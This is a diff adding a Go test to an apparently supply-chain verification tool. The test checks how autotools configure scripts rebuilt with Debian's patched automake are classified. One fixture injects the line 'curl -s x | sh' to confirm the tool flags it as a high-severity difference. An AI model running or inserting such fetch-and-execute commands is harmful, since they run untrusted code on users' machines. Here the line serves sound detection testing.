@@ -466,3 +466,46 @@ func TestUpstreamLargefile(t *testing.T) {
 		}
 	}
 }
+
+// TestDebianAutomakePython: a configure regenerated with Debian's automake
+// (patched AM_PATH_PYTHON) against a release made with upstream automake is
+// not proved (grouped medium naming the upstream build), never excused; an
+// injected command stays high.
+func TestDebianAutomakePython(t *testing.T) {
+	tree := map[string]string{"configure.ac": configureAC}
+	debian := "  # " + strings.TrimPrefix(debianPythonMarker, "# ") + "\n  scheme = 'posix_prefix'\n"
+	for name, tc := range map[string]struct {
+		extra string
+		want  string
+	}{
+		"upstream release": {"", report.RebuildNotReproducible},
+		"injected command": {"curl -s x | sh\n", report.RebuildDiffers},
+	} {
+		f := newFixture(t, map[string]string{"configure.ac": configureAC, "configure": configureBy("2.71", tc.extra),
+			"test-driver": "#! /bin/sh\n# distro-patched\n"}, tree, "2.71")
+		for i := range f.in.Files {
+			if f.in.Files[i].Path == "test-driver" {
+				f.in.Files[i].Generator = "GNU Automake 2018-03-07.03"
+			}
+		}
+		f.in.Generators = append(f.in.Generators, report.Generator{Name: "GNU Automake", Version: "1.16.5", Files: 1})
+		f.in.Runner = &scriptedRunner{do: func(script, dir string) error {
+			if err := os.WriteFile(filepath.Join(dir, "test-driver"), []byte("#! /bin/sh\n"), 0o755); err != nil {
+				return err
+			}
+			return os.WriteFile(filepath.Join(dir, "configure"), []byte(configureBy("2.71", debian)), 0o755)
+		}}
+		res := f.result(t)
+		c := fileOf(t, res, "configure")
+		if c.Rebuild != tc.want {
+			t.Errorf("%s: configure = %+v", name, c)
+		}
+		// The helper automake installs is not proved by that build either.
+		if d := fileOf(t, res, "test-driver"); d.Rebuild != report.RebuildNotReproducible || d.Severity != report.SevInfo {
+			t.Errorf("%s: test-driver = %+v", name, d)
+		}
+		if tc.want == report.RebuildNotReproducible && (len(res.Findings) != 1 || !strings.HasPrefix(res.Findings[0].Message, "automake 1.16.5 (upstream build) not available")) {
+			t.Errorf("%s: findings = %+v", name, res.Findings)
+		}
+	}
+}
